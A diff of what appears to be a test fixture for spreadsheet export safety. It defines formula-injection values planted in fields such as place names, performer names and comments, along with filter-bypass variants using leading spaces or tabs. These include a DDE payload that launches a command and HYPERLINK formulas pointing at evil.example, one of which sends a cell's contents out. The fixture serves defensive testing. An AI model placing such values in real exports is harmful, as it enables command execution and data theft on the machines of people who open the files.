@@ -27,13 +27,13 @@ PLACE_NAME = '@SUM(1+1)*cmd|" /C calc"!A0'
 PERFORMER_ID = "=B2"
 PERFORMER_NAME = '=HYPERLINK("http://evil.example/?"&A1;"Иван")'
 VEHICLE_ID = "+A1"
-DRIVE_NUMBER = " =SUM(1;2)"  # a leading space does not stop a spreadsheet
+DRIVE_NUMBER = "=SUM(1;2)"  # a plate Drive may send (one with spaces at its ends is dropped)
 DRIVE_MODEL = '=HYPERLINK("http://evil.example";"model")'  # in no export today: still planted
 REPAIR_ID = "-A1"  # the only formula a repair id's alphabet allows
 JOB_NAME_RU = "=1+1 грипсы"
 JOB_NAME_EN = "+1+1 grips"
 COMMENT = '=HYPERLINK("http://evil.example","click")'
-DRIVE_ERROR = "-2+3"
+DRIVE_ERROR = " -2+3"  # a leading space does not stop a spreadsheet
 DRIVE_DETAIL = "\t=1+1"
 
 EXPORTS = (
